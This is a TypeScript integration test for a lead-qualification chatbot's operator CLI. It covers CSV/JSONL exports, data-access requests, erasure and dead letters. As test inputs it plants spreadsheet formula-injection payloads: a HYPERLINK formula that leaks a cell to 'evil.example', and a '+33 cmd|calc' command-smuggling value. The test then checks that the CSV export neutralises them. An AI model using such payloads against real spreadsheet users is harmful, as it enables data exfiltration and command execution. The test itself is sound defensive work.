import BetterSqlite3 from 'better-sqlite3';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PersonExport } from '../../src/storage/ports/data-lifecycle.js';
import { SQLITE_FILENAME } from '../../src/storage/open-database.js';
import { FakeConnector } from '../fakes/fake-connector.js';
import { ChildApp, runCli, sleep } from '../helpers/child-app.js';
import { ChannelVisitor } from './support/channel-visitor.js';
import { answer, WARM_LEAD_FR } from './support/conversation-script.js';
import { csvRecords } from './support/csv.js';
import { createSqliteStore, withStore, type DataStore } from './support/engines.js';

const ADA = 'ada.lovelace@example.test';
const BOB = 'bob.martin@example.test';
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Voir")';

interface Person {
  conversationId: string;
  leadId: string;
}

/**
 * The operator CLI (`node src/cli/qualibot.mjs …`, a real process) on a real SQLite database filled
 * by real conversations with a real server: exports, access requests, erasure, dead letters.
 */
describe('qualibot CLI over a real database (SQLite)', () => {
  let store: DataStore;
  let ada: Person;
  let bob: Person;
  let carol: Person;
  let cutoff: Date;

  /** A conversation to its route, from a page whose context the visitor controls, then (maybe) an email. */
  async function converse(app: ChildApp, connector: FakeConnector, answers: readonly string[], context: Record<string, string>, contact?: string): Promise<Person> {
    const visitor = new ChannelVisitor(connector);
    await visitor.open(app.url, context);
    for (const text of answers) await visitor.say(app.url, text);
    if (contact) expect((await visitor.say(app.url, `Mon e-mail : ${contact}`)).replies.map((reply) => reply.text).join(' ')).toContain(contact);
    const lead = await withStore(store, (db) => db.leads.getByConversation(visitor.conversationId));
    return { conversationId: visitor.conversationId, leadId: lead!.id };
  }

  const cli = (...args: string[]) => runCli(args, store.env);

  beforeAll(async () => {
    store = await createSqliteStore();
    const connector = new FakeConnector();
    await connector.start();
    const app = await ChildApp.start({ env: { ...store.env, BUSINESS_HOURS: '' } });
    try {
      const hot = [0, 1, 2, 3, 4].map(answer);
      // Ada is nurtured, then leaves her email; Bob is handed off and leaves his while waiting for an SDR.
      ada = await converse(app, connector, WARM_LEAD_FR, { pageUrl: HYPERLINK, utm_source: '@SUM(1+1)' }, ADA);
      await sleep(20);
      cutoff = new Date();
      await sleep(20);
      bob = await converse(app, connector, hot, { pageUrl: 'https://prospekt.example/tarifs', utm_source: '+33 cmd|calc' }, BOB);
      carol = await converse(app, connector, hot, { utm_source: '-2+3' });
    } finally {
      await app.stop();
      await connector.stop();
    }
  }, 90_000);

  afterAll(async () => {
    await store?.destroy();
  });

  it('exports leads as CSV with every formula-looking cell neutralised', { timeout: 30_000 }, async () => {
    const result = await cli('export', '--format', 'csv');
    expect(result.code).toBe(0);
    const rows = csvRecords(result.stdout);
    expect(rows.map((row) => row.id).sort()).toEqual([ada.leadId, bob.leadId, carol.leadId].sort());
    const byId = Object.fromEntries(rows.map((row) => [row.id, row]));
    expect(byId[ada.leadId]).toMatchObject({ pageUrl: `'${HYPERLINK}`, utm_source: "'@SUM(1+1)", email: ADA, route: 'nurture', tier: 'warm' });
    expect(byId[bob.leadId]).toMatchObject({ utm_source: "'+33 cmd|calc", route: 'handoff', score: '100' });
    expect(byId[carol.leadId]).toMatchObject({ utm_source: "'-2+3", email: '' });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports JSON Lines, only leads updated since --since, and refuses bad options', { timeout: 30_000 }, async () => {
    const result = await cli('export', '--format', 'jsonl', '--since', cutoff.toISOString());
    expect(result.code).toBe(0);
    const leads = result.stdout.trimEnd().split('\n').map((line) => JSON.parse(line) as { id: string; context: { utm_source?: string } });
    expect(leads.map((lead) => lead.id).sort()).toEqual([bob.leadId, carol.leadId].sort());
    expect(leads.find((lead) => lead.id === bob.leadId)?.context.utm_source).toBe('+33 cmd|calc'); // JSON needs no escaping

    expect((await cli('export', '--format', 'xml')).code).toBe(2);
    const badDate = await cli('export', '--since', 'last tuesday');
    expect(badDate.code).toBe(2);
    expect(badDate.stderr).toMatch(/is not a date/);
  });

  it('answers an access request with everything held about the person', { timeout: 30_000 }, async () => {
    const result = await cli('export-person', '--email', 'Ada.Lovelace@Example.TEST');
    expect(result.code).toBe(0);
    const data = JSON.parse(result.stdout) as PersonExport;
    expect(data.conversationIds).toEqual([ada.conversationId]);
    expect(data.leads.map((lead) => lead.id)).toEqual([ada.leadId]);
    expect(data.leads[0]?.contact.email).toBe(ADA);
    expect(data.transcripts.filter((line) => line.from === 'visitor').map((line) => line.text)).toEqual([...WARM_LEAD_FR, `Mon e-mail : ${ADA}`]);
    expect(data.transcripts.some((line) => line.from === 'bot')).toBe(true);
    expect(data.outbox.map((entry) => [entry.type, entry.idempotencyKey])).toEqual([
      ['lead.qualified', `${ada.leadId}:1`],
      ['lead.updated', `${ada.leadId}:2`],
    ]);
  });

  // The email a visitor leaves while waiting for an SDR reaches the lead record, so access and erasure
  // requests by email find the person (and the CRM gets it as a lead.updated event).
  it('finds a handed-off visitor by the email they left while waiting for an SDR', { timeout: 30_000 }, async () => {
    const result = await cli('export-person', '--email', BOB);
    expect(result.code).toBe(0);
    const data = JSON.parse(result.stdout) as PersonExport;
    expect(data.conversationIds).toEqual([bob.conversationId]);
    expect(data.leads.map((lead) => lead.contact.email)).toEqual([BOB]);
  });

  it('erases a person by email: nothing about them remains but the person.erased event, even after a second erase', { timeout: 60_000 }, async () => {
    const result = await runCli(['erase', '--email', ADA], { ...store.env, LOG_LEVEL: 'trace' });
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ conversations: 1, crmDeletionEvents: 1 });
    expect(result.stderr).not.toContain(ADA);

    const traces = () => rowsMentioning([ADA, ada.conversationId, ada.leadId]);
    const expectOnlyTheErasureEvent = () => {
      const left = traces();
      expect(left.map((row) => row.table)).toEqual(['outbox']);
      expect(left[0]!.row).toMatchObject({ type: 'person.erased', idempotency_key: `${ada.leadId}:erased`, status: 'pending' });
      expect(JSON.parse(String(left[0]!.row.payload))).toMatchObject({ lead: { id: ada.leadId }, contact: { email: ADA } });
    };
    expectOnlyTheErasureEvent();

    const after = JSON.parse((await cli('export-person', '--email', ADA)).stdout) as PersonExport;
    expect(after).toMatchObject({ conversationIds: [], leads: [], transcripts: [], handoffs: [], references: {} });
    expect(after.outbox.map((entry) => entry.type)).toEqual(['person.erased']);

    // Asked twice (a reminder, a second channel): the CRM must still be told.
    expect((await cli('erase', '--email', ADA)).code).toBe(0);
    expectOnlyTheErasureEvent();
    // Others are untouched.
    expect(rowsMentioning([bob.conversationId]).length).toBeGreaterThan(0);
  });

  it('erases one conversation by id and queues the CRM deletion of its lead', { timeout: 30_000 }, async () => {
    const result = await cli('erase', '--conversation', carol.conversationId);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ conversations: 1, crmDeletionEvents: 1 });
    const left = rowsMentioning([carol.conversationId, carol.leadId]);
    expect(left.map((row) => [row.table, row.row.type, row.row.idempotency_key])).toEqual([['outbox', 'person.erased', `${carol.leadId}:erased`]]);
    expect((await cli('erase')).code).toBe(2);
    expect((await cli('erase', '--email', BOB, '--conversation', bob.conversationId)).code).toBe(2);
  });

  it('lists dead letters and refuses malformed replays', { timeout: 30_000 }, async () => {
    // Four independent commands (one reads, three are refused or find nothing): run side by side, each process
    // starting up takes seconds.
    const [dead, bare, malformed, unknown] = await Promise.all([cli('outbox', 'dead'), cli('outbox', 'replay'), cli('outbox', 'replay', 'abc'), cli('outbox', 'replay', '999999')]);
    expect(dead.code).toBe(0);
    expect(dead.stdout).toBe('');
    expect(dead.stderr).toMatch(/0 dead letter\(s\); backlog \d+/);
    expect(bare.code).toBe(2);
    expect(malformed.code).toBe(2);
    expect(unknown).toMatchObject({ code: 1, stdout: '0 entries queued again\n' });
  });

  /** Every row of every table whose content mentions one of these strings (case-insensitive). */
  function rowsMentioning(needles: string[]): Array<{ table: string; row: Record<string, unknown> }> {
    const db = new BetterSqlite3(join(store.env.DATA_DIR!, SQLITE_FILENAME), { readonly: true });
    try {
      const tables = db.prepare(`SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'`).pluck().all() as string[];
      const found: Array<{ table: string; row: Record<string, unknown> }> = [];
      for (const table of tables) {
        for (const row of db.prepare(`SELECT * FROM "${table}"`).all() as Array<Record<string, unknown>>) {
          const text = JSON.stringify(row).toLowerCase();
          if (needles.some((needle) => text.includes(needle.toLowerCase()))) found.push({ table, row });
        }
      }
      return found;
    } finally {
      db.close();
    }
  }
});
